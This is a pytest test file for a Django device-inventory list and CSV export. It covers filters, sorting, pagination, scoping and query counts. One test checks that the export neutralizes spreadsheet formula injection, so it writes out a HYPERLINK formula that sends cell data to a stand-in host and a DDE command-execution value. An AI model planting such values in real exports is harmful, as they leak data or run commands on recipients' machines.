"""The inventory (devices.views.device_list and device_export): filters, sorting, pagination, the CSV export,
and a query count that does not grow with the fleet."""

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from core.actors import Actor
from devices import services as device_services
from devices.models import Device
from tests.cockpit.pages import export_rows, fleet_of_every_state, listed_pks, url
from tests.factories import DeviceFactory, EmployeeFactory, GroupFactory

# --- helpers and fixtures -------------------------------------------------------------------------


@pytest.fixture
def fleet(org, employee, actor):
    return fleet_of_every_state(org, employee, actor)


def _fleet_of(org, count, actor):
    groups = [GroupFactory(organization=org) for _ in range(3)]
    employees = [EmployeeFactory(organization=org) for _ in range(5)]
    for n in range(count):
        device = DeviceFactory(organization=org)
        device.groups.add(groups[n % 3], groups[(n + 1) % 3])
        if n % 2:
            device_services.device_assign(device=device, employee=employees[n % 5], actor=actor)


def _queries_for(client, path) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(path)
    assert response.status_code == 200
    return len(ctx.captured_queries)


# --- filters --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"availability_status": "in_use"}, {"assigned", "loose", "broken"}),
        ({"availability_status": "in_stock"}, {"stock"}),
        ({"availability_status": "archived"}, {"archived"}),
        ({"assignment_status": "assigned"}, {"assigned", "broken"}),
        ({"assignment_status": "to_assign"}, {"stock", "loose"}),
        ({"availability_status": "in_use", "assignment_status": "to_assign"}, {"loose"}),
        ({"enrollment_status": "partially_enrolled"}, {"broken"}),
        ({"enrollment_status": "awaiting_activation"}, {"assigned", "stock", "loose", "archived"}),
        ({"enrollment_issue": "offline"}, {"broken"}),
        ({"platform": "windows"}, {"stock"}),
        ({"platform": "macos"}, {"assigned"}),
        ({"platform": "chromeos"}, set()),
        ({"group": "Engineering"}, {"assigned"}),
        ({"group": "engineering"}, {"assigned"}),
        ({"group": "Sales"}, {"stock"}),
        ({"assignee_email": "ADA@acme.test"}, {"assigned"}),
        ({"serial_number": " pf0stock1 "}, {"stock"}),
        ({"search": "thinkpad"}, {"stock"}),
        ({"search": "C02ADA"}, {"assigned"}),
        ({"search": "grace@"}, {"broken"}),
        ({"search": "Lovelace"}, {"assigned"}),
    ],
)
def test_inventory_filters(cockpit_client, org, fleet, query, expected):
    response = cockpit_client.get(url("device_list", org, **query))
    assert response.status_code == 200
    assert not response.context["filter"].errors
    assert set(listed_pks(response)) == {fleet[key].pk for key in expected}


def test_inventory_filters_by_assignee_id(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_list", org, assignee=fleet["grace"].pk))
    assert set(listed_pks(response)) == {fleet["broken"].pk}


def test_inventory_lists_rows_with_badges_and_links(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_list", org))
    html = response.content.decode()
    assert len(listed_pks(response)) == 5
    assert reverse("device_detail", args=[org.slug, fleet["assigned"].pk]) in html
    assert '<span class="badge badge-bad">Partially enrolled</span>' in html
    assert "Ada Lovelace" in html
    assert '<span class="tag">Engineering</span>' in html


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"platform": "amiga"}, "Select a valid choice"),
        ({"availability_status": "lost"}, "Select a valid choice"),
        ({"assignee": "not-a-number"}, "No employee “not-a-number” in this organization."),
        ({"group": "No such group"}, "Unknown group"),
    ],
)
def test_inventory_invalid_filter_shows_an_error_not_a_crash(cockpit_client, org, fleet, query, message):
    response = cockpit_client.get(url("device_list", org, **query))
    assert response.status_code == 200
    assert response.context["filter"].errors
    assert message in response.content.decode()
    assert listed_pks(response) == []


def test_inventory_another_organizations_group_or_employee_is_an_invalid_filter(cockpit_client, org, other_org, fleet):
    foreign_group = GroupFactory(organization=other_org, name="Secret")
    foreign_employee = EmployeeFactory(organization=other_org)
    for query in ({"group": foreign_group.name}, {"assignee": foreign_employee.pk}):
        response = cockpit_client.get(url("device_list", org, **query))
        assert response.status_code == 200
        assert response.context["filter"].errors
        assert listed_pks(response) == []


# --- sorting and pagination -----------------------------------------------------------------------


def test_inventory_sorting(cockpit_client, org, fleet):
    by_name = listed_pks(cockpit_client.get(url("device_list", org, ordering="name")))
    names = list(Device.objects.filter(pk__in=by_name).order_by("name").values_list("pk", flat=True))
    assert by_name == names
    assert listed_pks(cockpit_client.get(url("device_list", org, ordering="-name"))) == names[::-1]

    by_serial = listed_pks(cockpit_client.get(url("device_list", org, ordering="serial_number")))
    assert by_serial[0] == fleet["assigned"].pk  # C02… sorts first
    assert by_serial[-1] == fleet["broken"].pk  # PIX… sorts last

    html = cockpit_client.get(url("device_list", org, ordering="name")).content.decode()
    assert "?ordering=-name" in html  # the active column header toggles the direction
    assert "Name ▲" in html


def test_inventory_sorting_keeps_filters(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_list", org, platform="windows", ordering="-name"))
    assert set(listed_pks(response)) == {fleet["stock"].pk}
    assert "platform=windows" in response.content.decode()


def test_inventory_pagination(cockpit_client, org):
    DeviceFactory.create_batch(120, organization=org)
    first = cockpit_client.get(url("device_list", org))
    assert first.context["page"].paginator.count == 120
    assert first.context["page"].paginator.num_pages == 3
    assert len(listed_pks(first)) == 50
    assert "120 results" in first.content.decode()
    assert "page=2" in first.content.decode()

    seen = []
    for number in (1, 2, 3):
        seen += listed_pks(cockpit_client.get(url("device_list", org, page=number)))
    assert len(seen) == 120 and len(set(seen)) == 120

    # Out of range or garbage page numbers fall back to a real page instead of crashing.
    assert listed_pks(cockpit_client.get(url("device_list", org, page=99))) == seen[100:]
    assert listed_pks(cockpit_client.get(url("device_list", org, page="abc"))) == seen[:50]


def test_inventory_pagination_is_stable_when_sorting_on_a_column_with_ties(cockpit_client, org, actor):
    ada = EmployeeFactory(organization=org, full_name="Ada")
    devices = DeviceFactory.create_batch(110, organization=org)
    for device in devices[:60]:
        device_services.device_assign(device=device, employee=ada, actor=actor)
    seen = []
    for number in (1, 2, 3):
        response = cockpit_client.get(url("device_list", org, ordering="assignee", page=number))
        seen += listed_pks(response)
    # The database may return tied rows in any order: the primary key settles it, so no row is shown twice or lost.
    assert sorted(seen) == sorted(d.pk for d in devices)


# --- CSV export -----------------------------------------------------------------------------------


def test_export_csv_has_a_header_and_every_device(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_export", org))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith(f'attachment; filename="devices-{org.slug}-')
    rows = export_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Serial number", "Name", "Platform"]
    assert len(body) == 5
    by_serial = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    ada = by_serial["C02ADA001"]
    assert ada["Name"] == "ada-mbp"
    assert ada["Platform"] == "macOS"
    assert ada["Availability"] == "In use"
    assert ada["Assignment"] == "Assigned"
    assert ada["Assignee e-mail"] == "ada@acme.test"
    assert ada["Assignee name"] == "Ada Lovelace"
    assert ada["Groups"] == "Engineering"
    assert by_serial["IPH000001"]["Assignment"] == ""  # archived: no assignment status
    assert by_serial["PIX000001"]["Enrollment issues"] == "agent_missing/offline"


def test_export_csv_applies_the_filters(cockpit_client, org, fleet):
    rows = export_rows(cockpit_client.get(url("device_export", org, platform="windows")))
    assert [row[0] for row in rows[1:]] == ["PF0STOCK1"]
    rows = export_rows(cockpit_client.get(url("device_export", org, assignment_status="assigned")))
    assert {row[0] for row in rows[1:]} == {"C02ADA001", "PIX000001"}
    rows = export_rows(cockpit_client.get(url("device_export", org, search="lovelace")))
    assert [row[0] for row in rows[1:]] == ["C02ADA001"]


def test_export_csv_of_an_invalid_filter_is_empty_not_everything(cockpit_client, org, fleet):
    rows = export_rows(cockpit_client.get(url("device_export", org, platform="amiga")))
    assert len(rows) == 1  # header only


def test_export_csv_cells_cannot_run_formulas(cockpit_client, org, actor):
    hyperlink = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
    for serial, name in (("F1", hyperlink), ("F2", "+1"), ("F3", "@x"), ("F4", "-2+3"), ("F5", "plain")):
        DeviceFactory(organization=org, serial_number=serial, name=name)
    evil_employee = EmployeeFactory(organization=org, full_name="=cmd|' /C calc'!A0", email="evil@acme.test")
    group = GroupFactory(organization=org, name="@group")
    owned = DeviceFactory(organization=org, serial_number="F6", name="owned")
    owned.groups.add(group)
    device_services.device_assign(device=owned, employee=evil_employee, actor=actor)

    rows = export_rows(cockpit_client.get(url("device_export", org)))
    header = rows[0]
    by_serial = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_serial["F1"]["Name"] == "'" + hyperlink
    assert by_serial["F2"]["Name"] == "'+1"
    assert by_serial["F3"]["Name"] == "'@x"
    assert by_serial["F4"]["Name"] == "'-2+3"
    assert by_serial["F5"]["Name"] == "plain"
    assert by_serial["F6"]["Assignee name"] == "'=cmd|' /C calc'!A0"
    assert by_serial["F6"]["Groups"] == "'@group"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_export_csv_is_scoped_to_the_organization(cockpit_client, org, other_org):
    DeviceFactory(organization=org, serial_number="MINE1")
    DeviceFactory(organization=other_org, serial_number="THEIRS1")
    rows = export_rows(cockpit_client.get(url("device_export", org)))
    assert [row[0] for row in rows[1:]] == ["MINE1"]


# --- query count ----------------------------------------------------------------------------------


def test_inventory_runs_the_same_number_of_queries_for_10_and_100_devices(cockpit_client, org):
    actor = Actor.system("tests")
    cockpit_client.get(url("device_list", org))  # the user and memberships are cached from here on
    _fleet_of(org, 10, actor)
    small = _queries_for(cockpit_client, url("device_list", org))
    _fleet_of(org, 90, actor)
    large = _queries_for(cockpit_client, url("device_list", org))
    assert small == large
    # Filters and sorting keep it constant too.
    assert _queries_for(cockpit_client, url("device_list", org, ordering="assignee", availability_status="in_use")) \
        <= large + 1
